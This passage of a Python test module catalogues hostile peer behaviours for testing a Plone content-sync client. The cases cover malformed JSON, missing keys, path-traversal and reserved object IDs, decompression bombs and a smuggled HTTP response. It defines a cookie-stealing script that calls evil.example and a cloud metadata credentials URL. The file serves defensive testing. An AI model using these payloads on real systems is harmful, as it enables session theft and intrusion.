"""The catalogue of crafted hostile/faulty peer behaviours served by ``tests.hostile_peer``.

Each ``Case`` is named, has a category (``CATEGORIES``), the endpoint where it shows, an
``expect`` hint for the harness (a key of ``hostile_peer.EXPECTATIONS``) and a
``behaviour`` on the wire (a key of ``hostile_peer.BEHAVIOURS``). A case either prepares
a copy of the good model (so every endpoint serves the change consistently), or replaces
the answers of one or more endpoints, or both.

Cases that aim at the destination read ``Locals`` (``HostilePeer.locals``): its UIDs, a
local Manager's user id, a local user id. Batching cases show from the second page on
when the client's page size is smaller than the model (9 catalogued objects incl. the
site root in the default model: use product-config ``listing-page-size`` 3, or
``PeerModel.default(extra_documents=...)``).

Which reader sees a case: a peer with the add-on (the default) is listed through
``@sync-list`` and read through ``@sync-read``; a stock peer (``serves_sync_read=False``)
through ``@search`` (listing, positions, ``fullobjects``) and ``@sharing``. So a case that
replaces answers of the ``@search`` listing or positions is served by a stock peer (``add``
sets that); a case that changes the model (catalog summaries, added objects) shows in both
listings. A UID lookup is made only for a synced object that the listing leaves out: every
case at the ``lookup`` endpoint has the listings leave out folder/page (``unlisted``), which
the lookup still finds -- such cases need a destination that holds the good peer's copies.

Paths used below: ``folder``, ``folder/page`` (Document with rich text), ``folder/file``
(File, 200 KiB blob), ``folder/sub``, ``folder/sub/index`` (default page), ``image``
(Image), ``link`` (Link), ``about`` (private Document with relatedItems).
"""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Callable
from typing import Any
from urllib.parse import quote
from urllib.parse import urlencode

from tests.hostile_peer import ENDPOINTS
from tests.hostile_peer import GB
from tests.hostile_peer import LINK_LOCAL
from tests.hostile_peer import MB
from tests.hostile_peer import MISSING
from tests.hostile_peer import MODIFIED
from tests.hostile_peer import Answer
from tests.hostile_peer import BlobData
from tests.hostile_peer import Body
from tests.hostile_peer import Case
from tests.hostile_peer import Content
from tests.hostile_peer import Exchange
from tests.hostile_peer import Group
from tests.hostile_peer import Locals
from tests.hostile_peer import PeerModel
from tests.hostile_peer import Record
from tests.hostile_peer import User
from tests.hostile_peer import deep_array
from tests.hostile_peer import deep_object
from tests.hostile_peer import deflate_bomb
from tests.hostile_peer import drip
from tests.hostile_peer import endless
from tests.hostile_peer import error_answer
from tests.hostile_peer import gzip_bomb
from tests.hostile_peer import gzip_of
from tests.hostile_peer import hang
from tests.hostile_peer import huge_string
from tests.hostile_peer import json_answer
from tests.hostile_peer import lazy_array
from tests.hostile_peer import padded
from tests.hostile_peer import raw_answer
from tests.hostile_peer import raw_json
from tests.hostile_peer import redirect
from tests.hostile_peer import repeat
from tests.hostile_peer import stall
from tests.hostile_peer import truncated
from tests.hostile_peer import uid


CATEGORIES = (
    "types",
    "missing-keys",
    "ids/paths",
    "sizes",
    "nesting",
    "urls",
    "redirects",
    "batching",
    "blobs",
    "compression",
    "identity",
    "escalation",
    "registry",
    "principals",
    "http",
    "slow",
)

PAGE, FILE, IMAGE, LINK, FOLDER, ABOUT = "folder/page", "folder/file", "image", "link", "folder", "about"
OBJECT_ENDPOINTS = frozenset({"sync_read", "fullobjects", "object"})
METADATA_URL = f"{LINK_LOCAL}/latest/meta-data/iam/security-credentials/"
# A forged second answer sent after a complete one, on the same connection.
SMUGGLED = b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 13\r\n\r\n{"items": []}'
EVIL_JS = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
Prepare = Callable[[PeerModel, Locals], None]

_catalogue: list[Case] = []


# Endpoints only a stock reader asks (an add-on peer is listed through @sync-list): a case that
# replaces their answers is served by a stock peer.
STOCK_LISTING_ENDPOINTS = frozenset({"listing", "positions"})


def add(name: str, category: str, endpoint: str, expect: str, description: str, **kwargs: Any) -> Case:
    assert category in CATEGORIES, category
    if endpoint in STOCK_LISTING_ENDPOINTS and kwargs.get("answer") is not None:
        if kwargs.get("serves_sync_read") is None:
            kwargs["serves_sync_read"] = False
    if endpoint == "lookup":
        # A lookup is made for synced objects the listing leaves out only (see the module's docstring).
        prepare = kwargs.get("prepare")
        kwargs["prepare"] = both(unlisted(PAGE), prepare) if prepare is not None else unlisted(PAGE)
    case = Case(name, category, endpoint, expect, description, **kwargs)
    _catalogue.append(case)
    return case


# -- building blocks ------------------------------------------------------------------------------


def on_summary(path: str, overrides: dict[Any, Any]) -> Prepare:
    """The catalog summaries (every @search) of the object at ``path`` changed."""

    def prepare(model: PeerModel, _locals: Locals) -> None:
        model.at(path).summary_overrides.update(overrides)

    return prepare


def on_json(path: str, overrides: dict[Any, Any]) -> Prepare:
    """The full JSON (@sync-read, fullobjects, GET) of the object at ``path`` changed."""

    def prepare(model: PeerModel, _locals: Locals) -> None:
        model.at(path).json_overrides.update(overrides)

    return prepare


def on_list(path: str, overrides: dict[Any, Any]) -> Prepare:
    """The @sync-list item of the object at ``path`` changed (after its catalog summary's changes)."""

    def prepare(model: PeerModel, _locals: Locals) -> None:
        model.at(path).list_overrides.update(overrides)

    return prepare


def on_stored(path: str, name: str, value: Any) -> Prepare:
    """Field ``name`` of the object at ``path`` as @sync-read serves it stored (named in "@stored-fields");
    @search and GET still serve the harmless rendered value."""

    def prepare(model: PeerModel, _locals: Locals) -> None:
        model.at(path).stored[name] = value

    return prepare


def unlisted(path: str) -> Prepare:
    """The listings (@search, @sync-list) leave out the object at ``path``; UID lookups and reads find it."""

    def prepare(model: PeerModel, _locals: Locals) -> None:
        model.at(path).listed = False

    return prepare


def on_sharing(path: str, overrides: dict[Any, Any]) -> Prepare:
    """@sharing and @sync-read's "@sharing" of the object at ``path`` changed."""

    def prepare(model: PeerModel, _locals: Locals) -> None:
        model.at(path).sharing_overrides.update(overrides)

    return prepare


def on_blob(path: str, name: str, blob: BlobData) -> Prepare:
    def prepare(model: PeerModel, _locals: Locals) -> None:
        model.at(path).blobs[name] = blob

    return prepare


def on_registry(**records: Record) -> Prepare:
    def prepare(model: PeerModel, _locals: Locals) -> None:
        model.registry.update({name.replace("__", "."): record for name, record in records.items()})

    return prepare


def both(*steps: Prepare) -> Prepare:
    def prepare(model: PeerModel, locals_: Locals) -> None:
        for step in steps:
            step(model, locals_)

    return prepare


BIG_GROUP = "many"


def big_group(model: PeerModel, _locals: Locals) -> None:
    """A group with 30 members (users of the peer): @groups shows 25 of them, so the client reads
    ``@groups/many`` (with its own batching). Cases aimed at that endpoint need it."""
    members = [f"m{i:03d}" for i in range(30)]
    model.users.extend(User(member, ["Member"], f"Member {member}") for member in members)
    model.groups.append(Group(BIG_GROUP, "Many members", members=members))


def crafted(number: int) -> str:
    """UIDs of crafted objects: after the good model's, in UID order."""
    return uid(0x900 + number)


def adding(*items: Callable[[Locals], Content] | Content) -> Prepare:
    """New objects in the peer's catalog (made afresh each time: a model is prepared more than once)."""

    def prepare(model: PeerModel, locals_: Locals) -> None:
        for item in items:
            if isinstance(item, Content):
                item = Content(**{name: getattr(item, name) for name in item.__dataclass_fields__})
            else:
                item = item(locals_)
            model.add(item)

    return prepare


def doc(number: int, path: str, portal_type: str = "Document", **kwargs: Any) -> Content:
    return Content(crafted(number), path, portal_type, kwargs.pop("title", f"Crafted {number}"), **kwargs)


def edit_data(change: Callable[[Any, Exchange], Any]) -> Callable[[Exchange], Answer]:
    """An answer: the good JSON, edited in place by ``change`` (whatever it returns is ignored)."""

    def answer(x: Exchange) -> Answer:
        data = x.good_data()
        change(data, x)
        return json_answer(data)

    return answer


def new_data(make: Callable[[Any, Exchange], Any]) -> Callable[[Exchange], Answer]:
    """An answer: the JSON ``make`` returns from the good JSON."""
    return lambda x: json_answer(make(x.good_data(), x))


def replaced(data: Any) -> Callable[[Exchange], Answer]:
    return lambda x: json_answer(data)


def edit_items(change: Callable[[list[Any], Exchange], Any]) -> Callable[[Exchange], Answer]:
    """The good answer with its ``items`` edited in place by ``change`` (its return is ignored)."""
    return edit_data(lambda data, x: change(data["items"], x))


def new_items(make: Callable[[list[Any], Exchange], list[Any]]) -> Callable[[Exchange], Answer]:
    """The good answer with ``items`` replaced by what ``make`` returns from them."""

    def edit(data: dict[str, Any], x: Exchange) -> None:
        data["items"] = make(data["items"], x)

    return edit_data(edit)


def synthetic(x: Exchange, number: int) -> dict[str, Any]:
    """The catalog summary of an object that exists only in an endless listing."""
    return {
        "@id": f"{x.base}/endless/doc-{number}",
        "@type": "Document",
        "UID": f"ffff{number:028x}",
        "description": "",
        "modified": MODIFIED,
        "portal_type": "Document",
        "review_state": "published",
        "title": f"Endless {number}",
        "type_title": "Page",
    }


def endless_keyset(x: Exchange) -> Answer:
    """Pages of new, increasing UIDs for ever (each honours the cursor and the page size)."""
    size = max(int(x.param("b_size") or 25), 1)
    last = x.param("UID.query") or ""
    start = int(last[4:], 16) if last.startswith("ffff") else 0
    items = lazy_array(size, lambda i: synthetic(x, start + i))
    return json_answer({"@id": f"{x.base}/@search", "items": items, "items_total": 10**12})


def endless_offsets(x: Exchange) -> Answer:
    size = max(int(x.param("b_size") or 25), 1)
    start = int(x.param("b_start") or 0)
    items = lazy_array(size, lambda i: synthetic(x, start + i))
    return json_answer({"@id": f"{x.base}/@search", "items": items, "items_total": 10**12})


def with_next(make: Callable[[Exchange], str], key: str | None = None) -> Callable[[Exchange], Answer]:
    """The good answer with ``batching.next`` (under ``key``, e.g. "members") set to ``make(x)``."""

    def edit(data: dict[str, Any], x: Exchange) -> None:
        holder = data[key] if key else data
        holder["batching"] = {"@id": x.url, "first": x.url, "last": x.url, "next": make(x)}
        holder["items_total"] = len(holder.get("items") or ()) + 1

    return edit_data(edit)


def next_start(x: Exchange) -> str:
    """The same request one b_start further: a new URL each time, for ever."""
    start = int(x.param("b_start") or 0) + max(int(x.param("b_size") or 25), 1)
    rest = [(k, v) for k, v in x.query if k != "b_start"]
    return f"{x.origin}{x.path}?{urlencode([('b_start', str(start))] + rest)}"


def blob_answer(body: bytes | Body, content_type: str = "application/octet-stream", **kwargs: Any) -> Answer:
    return Answer(200, [("Content-Type", content_type)], body, **kwargs)


def file_bytes(x: Exchange) -> bytes:
    return x.model.at(FILE).blobs["file"].data


def unless(
    condition: Callable[[Exchange], bool], answer: Callable[[Exchange], Answer]
) -> Callable[[Exchange], Answer | None]:
    """``answer``, but the good answer where ``condition`` holds (how a redirect ends)."""
    return lambda x: None if condition(x) else answer(x)


def arrived_via_alias(x: Exchange) -> bool:
    return x.arrived == "alias"


def was_redirected(x: Exchange) -> bool:
    return x.param("redirected") is not None


def login_redirect(x: Exchange) -> Answer:
    """What a Plone with a cookie challenge does for an anonymous request: off to the login form."""
    return redirect(f"{x.base}/require_login?came_from={quote(x.url, safe='')}")


def record_alone(
    answer: Callable[[Exchange], Answer | None], name: str = "plone.site_title"
) -> Callable[[Exchange], Answer | None]:
    """``answer`` for @registry/<name>; listing pages holding ``name`` answer 500 (as Plone does for a
    value plain json.dumps cannot write), which is when the client reads the record alone."""

    def combined(x: Exchange) -> Answer | None:
        if x.endpoint == "registry_record":
            return answer(x)
        if any(item.get("name") == name for item in x.good_data().get("items", [])):
            return error_answer(500, "TypeError", "Object of type datetime is not JSON serializable")
        return None

    return combined


RECORD_ENDPOINTS = frozenset({"registry", "registry_record"})


def gzipped(body: Body, content_type: str = "application/json", encoding: str = "gzip") -> Callable[[Exchange], Answer]:
    return lambda x: Answer(200, [("Content-Type", content_type), ("Content-Encoding", encoding)], body)


JSON_BOMB_PREFIX = b'{"items": [], "items_total": 0, "pad": "'


def json_bomb(x: Exchange) -> Answer:
    body = gzip_bomb(10 * GB, b"0", JSON_BOMB_PREFIX, b'"}')
    return Answer(200, [("Content-Type", "application/json"), ("Content-Encoding", "gzip")], body)


# -- types: a wrong JSON type for every field the client reads ----------------------------------------

# The listing's item fields (on folder/page's catalog summary): key -> (label, value, expect).
LISTING_TYPES: dict[str, list[tuple[str, Any, str]]] = {
    "UID": [
        ("int", 12345, "error"),
        ("list", ["000000020c1a55ee0c1a55ee0c1a55ee"], "error"),
        ("null", None, "error"),
        ("object", {"uid": "x"}, "error"),
        ("bool", True, "error"),
        ("empty", "", "error"),
    ],
    "@id": [
        ("int", 42, "error"),
        ("list", ["{base}/folder/page"], "error"),
        ("object", {"@id": "{base}/folder/page"}, "error"),
        ("null", None, "no-delete"),
    ],
    "portal_type": [("int", 7, "error"), ("list", ["Document"], "error"), ("object", {"id": "Document"}, "error")],
    "modified": [("int", 1706783400, "error"), ("list", [MODIFIED], "error"), ("garbage", "yesterday-ish", "ok")],
    "review_state": [("int", 1, "error"), ("list", ["published"], "error"), ("object", {"id": "published"}, "error")],
}
for _key, _variants in LISTING_TYPES.items():
    for _label, _value, _expect in _variants:
        add(
            f"listing-{_key.strip('@').lower().replace('_', '')}-{_label}",
            "types",
            "listing",
            _expect,
            f"The listing gives folder/page a {_label} {_key}: {_value!r}.",
            prepare=on_summary(PAGE, {_key: _value}),
        )

# The object's JSON (as @sync-read and @search?fullobjects serve it): (target, key, label, value, expect).
OBJECT_TYPES: list[tuple[str, Any, str, Any, str]] = [
    (PAGE, "title", "int", 123, "skip"),
    (PAGE, "title", "list", ["A", "page"], "skip"),
    (PAGE, "title", "object", {"en": "A page"}, "skip"),
    (PAGE, "title", "null", None, "skip"),
    (PAGE, "description", "int", 5, "skip"),
    (PAGE, "text", "string", "<p>not a rich text object</p>", "skip"),
    (PAGE, "text", "list", ["<p>x</p>"], "skip"),
    (PAGE, "text", "int", 3, "skip"),
    (PAGE, "text", "data-int", {"content-type": "text/html", "data": 123, "encoding": "utf-8"}, "skip"),
    (PAGE, "text", "mimetype-list", {"content-type": ["text/html"], "data": "<p>x</p>", "encoding": "utf-8"}, "skip"),
    (PAGE, "text", "encoding-int", {"content-type": "text/html", "data": "<p>x</p>", "encoding": 7}, "skip"),
    (PAGE, "@components", "list", [], "skip"),
    (PAGE, "@components", "string", "workflow", "skip"),
    (PAGE, ("@components", "workflow"), "list", [], "skip"),
    (PAGE, ("@components", "workflow"), "string", "published", "skip"),
    (PAGE, ("@components", "workflow", "history"), "object", {"review_state": "published"}, "skip"),
    (PAGE, ("@components", "workflow", "history"), "string", "published", "skip"),
    (PAGE, ("@components", "workflow", "history"), "ints", [1, 2], "skip"),
    (
        PAGE,
        ("@components", "workflow", "history"),
        "state-list",
        [{"action": None, "actor": "x", "comments": "", "review_state": ["published"], "time": MODIFIED}],
        "skip",
    ),
    (
        PAGE,
        ("@components", "workflow", "history"),
        "time-garbage",
        [{"action": None, "actor": "x", "comments": "", "review_state": "published", "time": "the day after"}],
        "skip",
    ),
    (
        PAGE,
        ("@components", "workflow", "history"),
        "time-object",
        [{"action": None, "actor": "x", "comments": "", "review_state": "published", "time": {"t": 1}}],
        "skip",
    ),
    (
        PAGE,
        ("@components", "workflow", "history"),
        "comments-list",
        [{"action": None, "actor": "x", "comments": ["a"], "review_state": "published", "time": MODIFIED}],
        "skip",
    ),
    (PAGE, "review_state", "int", 3, "skip"),
    (PAGE, "review_state", "list", ["published"], "skip"),
    (PAGE, "review_state", "object", {"id": "published"}, "skip"),
    (PAGE, "review_state", "unknown", "no_such_state", "skip"),
    (PAGE, "created", "garbage", "the day before", "skip"),
    (PAGE, "modified", "object", {"t": 1}, "skip"),
    (PAGE, "effective", "list", ["2024-01-01"], "skip"),
    (PAGE, "expires", "bool", True, "skip"),
    (PAGE, "expires", "year-1970", "1970-01-01T00:00:01+00:00", "ok"),
    (PAGE, "creators", "string", "editor1", "skip"),
    (PAGE, "creators", "object", {"0": "editor1"}, "skip"),
    (PAGE, "creators", "ints", [123], "skip"),
    (PAGE, "creators", "nulls", [None], "skip"),
    (PAGE, "subjects", "string", "alpha", "skip"),
    (PAGE, "subjects", "object", {"alpha": True}, "skip"),
    (PAGE, "subjects", "objects", [{"token": "alpha"}], "skip"),
    (PAGE, "subjects", "ints", [1, 2], "skip"),
    (FILE, "file", "string", "report.bin", "skip"),
    (FILE, "file", "list", [{"filename": "report.bin"}], "skip"),
    (FILE, "file", "int", 123, "skip"),
    (FILE, ("file", "download"), "int", 123, "skip"),
    (FILE, ("file", "download"), "list", ["{base}/folder/file/@@download/file"], "skip"),
    (FILE, ("file", "download"), "object", {"href": "{base}/folder/file/@@download/file"}, "skip"),
    (FILE, ("file", "filename"), "int", 123, "skip"),
    (FILE, ("file", "filename"), "list", ["a.bin"], "skip"),
    (FILE, ("file", "size"), "string", "big", "ok"),
    (FILE, ("file", "content-type"), "list", ["application/pdf"], "skip"),
    (IMAGE, "image", "string", "dot.png", "skip"),
    (IMAGE, ("image", "download"), "int", 123, "skip"),
    (IMAGE, ("image", "width"), "string", "wide", "ok"),
    (IMAGE, ("image", "scales"), "list", [], "ok"),
    (ABOUT, "relatedItems", "string", "{base}/folder/page", "ok"),
    (ABOUT, "relatedItems", "object", {"@id": "{base}/folder/page"}, "ok"),
    (ABOUT, "relatedItems", "strings", ["{base}/folder/page"], "ok"),
    (ABOUT, "relatedItems", "id-int", [{"@id": 123}], "skip"),
    (ABOUT, "relatedItems", "id-list", [{"@id": ["{base}/folder/page"]}], "skip"),
    (PAGE, "layout", "int", 1, "skip"),
    (PAGE, "layout", "list", ["document_view"], "skip"),
    (PAGE, "layout", "object", {"id": "document_view"}, "skip"),
    (PAGE, "@sharing", "list", [], "skip"),
    (PAGE, "@sharing", "string", "inherit", "skip"),
    (PAGE, "@sharing", "int", 0, "skip"),
    (PAGE, ("@sharing", "entries"), "object", {"editor1": ["Reader"]}, "skip"),
    (PAGE, ("@sharing", "entries"), "string", "editor1", "skip"),
    (PAGE, ("@sharing", "entries"), "lists", [["editor1", "Reader"]], "skip"),
    (PAGE, ("@sharing", "entries"), "id-int", [{"id": 123, "roles": {"Reader": True}}], "skip"),
    (PAGE, ("@sharing", "entries"), "id-list", [{"id": ["editor1"], "roles": {"Reader": True}}], "skip"),
    (PAGE, ("@sharing", "entries"), "roles-list", [{"id": "editor1", "roles": ["Reader"]}], "skip"),
    (PAGE, ("@sharing", "entries"), "roles-string", [{"id": "editor1", "roles": "Reader"}], "skip"),
    (PAGE, ("@sharing", "entries"), "role-value-string", [{"id": "editor1", "roles": {"Reader": "true"}}], "ok"),
    (PAGE, ("@sharing", "available_roles"), "string", "Reader", "skip"),
    (PAGE, ("@sharing", "available_roles"), "strings", ["Reader", "Editor"], "skip"),
    (PAGE, ("@sharing", "inherit"), "string", "false", "skip"),
    (PAGE, "UID", "int", 2, "warning"),
    (PAGE, "UID", "list", ["000000020c1a55ee0c1a55ee0c1a55ee"], "skip"),
    (PAGE, "UID", "null", None, "warning"),
]


def _label_of(key: Any) -> str:
    parts = key if isinstance(key, tuple) else (key,)
    return "-".join(part.strip("@").lower().replace("_", "") for part in parts)


for _target, _key, _label, _value, _expect in OBJECT_TYPES:
    _name = {"folder/page": "page", "folder/file": "file"}.get(_target, _target)
    add(
        f"object-{_name}-{_label_of(_key)}-{_label}",
        "types",
        "sync_read",
        _expect,
        f"{_target}'s JSON has a {_label} {_key}: {_value!r}.",
        prepare=on_json(_target, {_key: _value}),
        target=_target,
    )

# The stock @sharing endpoint (a peer without the add-on).
for _label, _overrides, _expect in [
    ("entries-string", {"entries": "editor1"}, "skip"),
    ("roles-list", {"entries": [{"id": "editor1", "roles": ["Editor"]}]}, "skip"),
    ("available-strings", {"available_roles": ["Reader"]}, "skip"),
    ("inherit-string", {"inherit": "no"}, "skip"),
]:
    add(
        f"sharing-stock-{_label}",
        "types",
        "sharing",
        _expect,
        f"Stock @sharing of folder/page: {_overrides!r}.",
        prepare=on_sharing(PAGE, _overrides),
        target=PAGE,
        serves_sync_read=False,
    )

add(
    "listing-items-object",
    "types",
    "listing",
    "error",
    "The listing's items is an object, not a list.",
    answer=edit_data(lambda d, x: d.update(items={"0": d["items"][0]})),
)
add(
    "listing-items-string",
    "types",
    "listing",
    "error",
    "The listing's items is a string.",
    answer=edit_data(lambda d, x: d.update(items="everything")),
)
add(
    "listing-item-string",
    "types",
    "listing",
    "error",
    "One item of the listing is a string, not an object.",
    answer=edit_items(lambda items, x: items.__setitem__(1, "000000010c1a55ee0c1a55ee0c1a55ee")),
)
add(
    "site-id-int",
    "types",
    "site",
    "error",
    "The site's @id is a number.",
    prepare=lambda m, loc: m.site_overrides.update({"@id": 1}),
)
add(
    "site-id-list",
    "types",
    "site",
    "error",
    "The site's @id is a list.",
    prepare=lambda m, loc: m.site_overrides.update({"@id": ["{base}"]}),
)
add(
    "sync-read-items-object",
    "types",
    "sync_read",
    "skip",
    "@sync-read's items is an object.",
    answer=new_data(lambda d, x: {"items": {item["UID"]: item for item in d["items"]}}),
)
add(
    "probe-items-string",
    "types",
    "probe",
    "ok",
    'The probe answers items: "yes" (the client may take the add-on as there).',
    answer=replaced({"items": "yes"}),
)
add("probe-json-list", "types", "probe", "ok", "The probe answers a JSON list.", answer=replaced([]))
add(
    "fullobjects-items-string",
    "types",
    "fullobjects",
    "skip",
    "fullobjects' items is a string.",
    answer=edit_data(lambda d, x: d.update(items="x")),
    serves_sync_read=False,
)
add(
    "fullobjects-item-string",
    "types",
    "fullobjects",
    "skip",
    "A fullobjects item is a string, not an object.",
    answer=new_items(lambda items, x: ["000000020c1a55ee0c1a55ee0c1a55ee" for _ in items]),
    serves_sync_read=False,
)
add(
    "lookup-uid-list",
    "types",
    "lookup",
    "error",
    "A lookup item's UID is a list.",
    answer=new_items(lambda items, x: [dict(item, UID=[item["UID"]]) for item in items]),
)


# -- missing keys ---------------------------------------------------------------------------------------


def _drop_from_items(key: str) -> Callable[[list[Any], Exchange], None]:
    def change(items: list[Any], x: Exchange) -> None:
        for item in items:
            item.pop(key, None)

    return change


add(
    "site-no-id",
    "missing-keys",
    "site",
    "error",
    "The site's JSON has no @id.",
    prepare=lambda m, loc: m.site_overrides.update({"@id": MISSING}),
)
add(
    "site-no-title",
    "missing-keys",
    "site",
    "ok",
    "The site's JSON has no title.",
    prepare=lambda m, loc: m.site_overrides.update({"title": MISSING}),
)
add("site-empty-object", "missing-keys", "site", "error", "The site answers {}.", answer=replaced({}))
add(
    "listing-no-items",
    "missing-keys",
    "listing",
    "error",
    "The listing has no items key.",
    answer=edit_data(lambda d, x: d.pop("items")),
)
add(
    "listing-no-items-total",
    "missing-keys",
    "listing",
    "error",
    "The listing has no items_total.",
    answer=edit_data(lambda d, x: d.pop("items_total")),
)
for _key, _expect in [
    ("UID", "error"),
    ("@id", "no-delete"),
    ("portal_type", "ok"),
    ("modified", "ok"),
    ("review_state", "ok"),
]:
    add(
        f"listing-item-no-{_key.strip('@').lower().replace('_', '-')}",
        "missing-keys",
        "listing",
        _expect,
        f"folder/page's listing item has no {_key}.",
        prepare=on_summary(PAGE, {_key: MISSING}),
        # Without portal_type, @search's items still have @type: a stock peer (@sync-list has no @type).
        serves_sync_read=False if _key == "portal_type" else None,
    )
add(
    "listing-item-no-type-at-all",
    "missing-keys",
    "listing",
    "skip",
    "folder/page's listing item has neither portal_type nor @type.",
    prepare=on_summary(PAGE, {"portal_type": MISSING, "@type": MISSING}),
)
add(
    "listing-item-empty",
    "missing-keys",
    "listing",
    "error",
    "One listing item is {}.",
    answer=edit_items(lambda items, x: items.__setitem__(1, {})),
)
add(
    "lookup-no-items",
    "missing-keys",
    "lookup",
    "no-delete",
    "The UID lookup answers without items: the objects look gone.",
    answer=edit_data(lambda d, x: d.pop("items")),
)
add(
    "lookup-item-no-id",
    "missing-keys",
    "lookup",
    "no-delete",
    "The UID lookup's items have no @id: the objects look gone.",
    answer=edit_items(_drop_from_items("@id")),
)
add(
    "positions-no-items",
    "missing-keys",
    "positions",
    "ok",
    "The position pages have no items (order unknown).",
    answer=edit_data(lambda d, x: d.pop("items")),
)
add(
    "default-pages-no-items-total",
    "missing-keys",
    "default_pages",
    "error",
    "The default-page listing lacks items_total.",
    answer=edit_data(lambda d, x: d.pop("items_total")),
)
add(
    "probe-no-items",
    "missing-keys",
    "probe",
    "ok",
    "The probe answers {} (the add-on is not there: fall back).",
    answer=replaced({}),
)
add("sync-read-no-items", "missing-keys", "sync_read", "skip", "@sync-read answers {}.", answer=replaced({}))
add(
    "sync-read-item-no-uid",
    "missing-keys",
    "sync_read",
    "skip",
    "@sync-read's item lacks UID.",
    answer=edit_items(_drop_from_items("UID")),
)
for _key, _label, _expect in [
    ("@components", "components", "ok"),
    (("@components", "workflow"), "workflow", "ok"),
    (("@components", "workflow", "history"), "history", "ok"),
    ("@sharing", "sharing", "ok"),
    (("@sharing", "entries"), "sharing-entries", "ok"),
    (("@sharing", "available_roles"), "sharing-available-roles", "ok"),
    (("@sharing", "inherit"), "sharing-inherit", "ok"),
    ("review_state", "review-state", "ok"),
    ("modified", "modified", "ok"),
]:
    add(
        f"object-page-no-{_label}",
        "missing-keys",
        "sync_read",
        _expect,
        f"folder/page's JSON lacks {_key}.",
        prepare=on_json(PAGE, {_key: MISSING}),
        target=PAGE,
    )
add(
    "sharing-entry-no-id",
    "missing-keys",
    "sync_read",
    "skip",
    "A @sharing entry lacks id.",
    prepare=on_sharing(PAGE, {"entries": [{"roles": {"Reader": True}}]}),
    target=PAGE,
)
add(
    "sharing-entry-no-roles",
    "missing-keys",
    "sync_read",
    "ok",
    "A @sharing entry lacks roles.",
    prepare=on_sharing(PAGE, {"entries": [{"id": "editor1"}]}),
    target=PAGE,
)
add(
    "file-no-download",
    "missing-keys",
    "sync_read",
    "skip",
    "The file field lacks download (the copy would lose its file).",
    prepare=on_json(FILE, {("file", "download"): MISSING}),
    target=FILE,
)
add(
    "file-no-filename",
    "missing-keys",
    "sync_read",
    "skip",
    "The file field lacks filename (it is not downloaded).",
    prepare=on_json(FILE, {("file", "filename"): MISSING}),
    target=FILE,
)
add(
    "fullobjects-no-items",
    "missing-keys",
    "fullobjects",
    "warning",
    "fullobjects answers without items.",
    answer=edit_data(lambda d, x: d.pop("items")),
    serves_sync_read=False,
)
add(
    "registry-no-items",
    "missing-keys",
    "registry",
    "error",
    "The registry listing lacks items.",
    answer=edit_data(lambda d, x: d.pop("items")),
)
add(
    "registry-no-items-total",
    "missing-keys",
    "registry",
    "error",
    "The registry listing lacks items_total (it would look empty).",
    answer=edit_data(lambda d, x: d.pop("items_total")),
)
add(
    "registry-item-no-name",
    "missing-keys",
    "registry",
    "error",
    "A registry item lacks name.",
    answer=edit_items(_drop_from_items("name")),
)
add(
    "registry-item-no-value",
    "missing-keys",
    "registry",
    "skip",
    "Registry items lack value (read as null: records would be cleared).",
    answer=edit_items(_drop_from_items("value")),
)
add(
    "users-no-items",
    "missing-keys",
    "users",
    "error",
    "@users lacks items.",
    answer=edit_data(lambda d, x: d.pop("items")),
)
add("user-no-id", "missing-keys", "users", "error", "A user lacks id.", answer=edit_items(_drop_from_items("id")))
add(
    "groups-object",
    "missing-keys",
    "groups",
    "error",
    "@groups answers an object, not a list.",
    answer=new_data(lambda d, x: {"items": d}),
)
add(
    "group-no-id",
    "missing-keys",
    "groups",
    "error",
    "A group lacks id.",
    answer=edit_data(lambda d, x: d[-1].pop("id")),
)
add(
    "group-no-members",
    "missing-keys",
    "groups",
    "ok",
    "Groups lack members.",
    answer=edit_data(lambda d, x: [g.pop("members") for g in d]),
)


# -- ids and paths ------------------------------------------------------------------------------------------

IDS: list[tuple[str, str, tuple[str, ...], str]] = [
    # name, path, listed parent folders, expect
    ("id-dotdot", "folder/..", (), "skip"),
    ("id-dot", "folder/.", (), "skip"),
    ("path-dotdot-escape", "../escape", ("..",), "skip"),
    ("path-dotdot-middle", "folder/../acl_users", ("folder/..",), "skip"),
    ("id-acl-users-root", "acl_users", (), "skip"),
    ("id-acl-users-sub", "folder/acl_users", (), "skip"),
    ("id-portal-catalog-sub", "folder/portal_catalog", (), "skip"),
    ("id-portal-workflow-sub", "folder/portal_workflow", (), "skip"),
    ("id-request", "folder/REQUEST", (), "skip"),
    ("id-aq-parent", "folder/aq_parent", (), "skip"),
    ("id-underscore", "folder/_secret", (), "skip"),
    ("id-dunder-suffix", "folder/evil__", (), "skip"),
    ("id-at-at", "folder/@@overview-controlpanel", (), "skip"),
    ("id-plus-plus", "folder/++resource++evil", (), "skip"),
    ("id-index-html", "folder/index_html", (), "skip"),
    ("id-view", "folder/view", (), "skip"),
    ("id-manage-main", "folder/manage_main", (), "skip"),
    ("id-very-long", "folder/" + "a" * 10_000, (), "skip"),
    ("id-256", "folder/" + "b" * 256, (), "ok"),
    ("id-empty", "folder/", (), "skip"),
    ("path-double-slash", "folder//twice", (), "skip"),
    ("id-encoded-slash", "folder/a%2Fb", (), "skip"),
    ("id-encoded-dotdot", "folder/%2e%2e", (), "skip"),
    ("id-backslashes", "folder/..\\..\\evil", (), "skip"),
    ("id-nul", "folder/a\x00b", (), "skip"),
    ("id-space", "folder/ ", (), "skip"),
    ("id-rtl-override", "folder/\u202egpj.exe", (), "skip"),
    ("id-query", "folder/page2?x=1", (), "skip"),
    ("id-fragment", "folder/page3#top", (), "skip"),
    ("path-500-deep-orphan", "/".join(["deep"] * 500), (), "skip"),
]
for _number, (_name, _path, _parents, _expect) in enumerate(IDS):
    _items = [doc(100 + _number * 2 + i, parent, "Folder") for i, parent in enumerate(_parents)]
    add(
        _name,
        "ids/paths",
        "listing",
        _expect,
        f"The peer lists an object at {_path[:80]!r}.",
        prepare=adding(*_items, doc(101 + _number * 2 + len(_parents), _path)),
    )

add(
    "path-500-deep-chain",
    "ids/paths",
    "listing",
    "ok",
    "500 nested folders, all listed, and a page at the bottom.",
    prepare=adding(
        *[doc(300 + depth, "/".join(["d"] * (depth + 1)), "Folder") for depth in range(500)],
        doc(900, "/".join(["d"] * 500) + "/bottom"),
    ),
)
add(
    "path-two-uids-one-path",
    "ids/paths",
    "listing",
    "skip",
    "A second object claims the path folder/page.",
    prepare=adding(doc(950, PAGE)),
)
add(
    "id-json-with-slash",
    "ids/paths",
    "sync_read",
